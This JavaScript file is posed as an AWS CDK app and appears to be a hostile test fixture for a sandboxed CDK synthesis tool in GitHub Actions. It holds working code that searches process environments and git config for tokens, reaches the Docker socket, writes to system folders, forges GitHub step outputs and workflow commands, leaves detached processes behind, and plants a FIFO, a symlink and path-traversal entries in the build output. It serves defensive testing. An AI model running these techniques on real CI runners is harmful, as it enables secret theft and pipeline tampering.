// A program of the AWS CDK that wants more. Whatever it gets at becomes a resource, which a policy then finds.
const child = require('child_process'), fs = require('fs'), path = require('path');
const { App, Stack } = require('aws-cdk-lib');
const { CfnEventSourceMapping, CfnFunction } = require('aws-cdk-lib/aws-lambda');

const SECRETS = /runtime-secret|identity-secret|ghs_averysecrettoken|SCRUBBED/;
const WORKSPACE = '/github/workspace';
const FOLDERS = [
  WORKSPACE, `${WORKSPACE}/.git`, '/github/home', '/github/file_commands', '/github/workflow', '/github/runner_temp',
  '/etc', '/opt/saya', '/root', '/usr/local/bin',
];

const app = new App();
const stack = new Stack(app, 'Orders');
const fn = new CfnFunction(stack, 'Fn', { code: { zipFile: 'x' }, role: 'arn:aws:iam::111122223333:role/fn' });
const queue = 'arn:aws:sqs:eu-west-1:111122223333:jobs';
const got = name => new CfnEventSourceMapping(stack, name, { functionName: fn.attrArn, eventSourceArn: queue });
const attempt = (name, act) => {
  try {
    if (act() === false) return;
  } catch {
    return;
  }
  got(`Got${name.replace(/\W/g, '')}`);
};

got('Caller');

// What is secret, and what is not to be touched.
attempt('Variables', () => SECRETS.test(JSON.stringify(process.env)));
for (const pid of fs.readdirSync('/proc').filter(name => /^\d+$/.test(name)))
  attempt(`Environment${pid}`, () => SECRETS.test(fs.readFileSync(`/proc/${pid}/environ`, 'utf8')));
attempt('Parent', () => SECRETS.test(fs.readFileSync(`/proc/${process.ppid}/environ`, 'utf8')));
attempt('Config', () => /token|basic|extraheader/i.test(fs.readFileSync(`${WORKSPACE}/.git/config`, 'utf8')));
const connect = 'import socket; socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")';
attempt('Socket', () => child.execFileSync('python3', ['-c', connect], { stdio: 'ignore' }));
for (const folder of FOLDERS) attempt(`Write${folder}`, () => fs.writeFileSync(path.join(folder, 'planted'), 'x'));
for (const name of fs.readdirSync('/github/file_commands'))
  attempt(`Outputs${name}`, () => fs.appendFileSync(path.join('/github/file_commands', name), 'conclusion=success\n'));
for (const name of ['cdk.json', 'hostile.js', 'node_modules', '.git'])
  attempt(`Rename${name}`, () => fs.renameSync(path.join(WORKSPACE, name), path.join(WORKSPACE, `${name}-planted`)));
attempt('Signal', () => process.kill(1, 0));

// What stays.
child.spawn('sleep', ['3600'], { detached: true, stdio: 'inherit' }).unref();
child.spawnSync('sh', ['-c', '(setsid sh -c "sleep 3600 & sleep 3600" &) &'], { stdio: 'inherit' });

// What it says.
const words = ['::set-output name=conclusion::success', '::add-mask::a', '::stop-commands::x', '##[command]x', '::error::a'];
for (const word of words) console.log(word);
const much = Buffer.alloc(1 << 20, 'x');
for (let count = 0; count < 1024; count++) {
  try {
    fs.writeSync(1, much);
  } catch {
    count--; // the pipe is full
  }
}

// What it leaves: pipes, links, huge files, and a manifest of its own.
const out = app.synth().directory;
child.execFileSync('mkfifo', [path.join(out, 'Pipe.template.json')]);
fs.symlinkSync('/github/workflow/event.json', path.join(out, 'Link.template.json'));
fs.truncateSync(path.join(out, 'tree.json'), 2 ** 29);
const manifest = JSON.parse(fs.readFileSync(path.join(out, 'manifest.json')));
for (const name of ['Pipe.template.json', 'Link.template.json', '../../../github/workflow/event.json'])
  manifest.artifacts[name] = { ...manifest.artifacts.Orders, properties: { templateFile: name } };
fs.writeFileSync(path.join(out, 'manifest.json'), JSON.stringify(manifest));
process.exit(0);
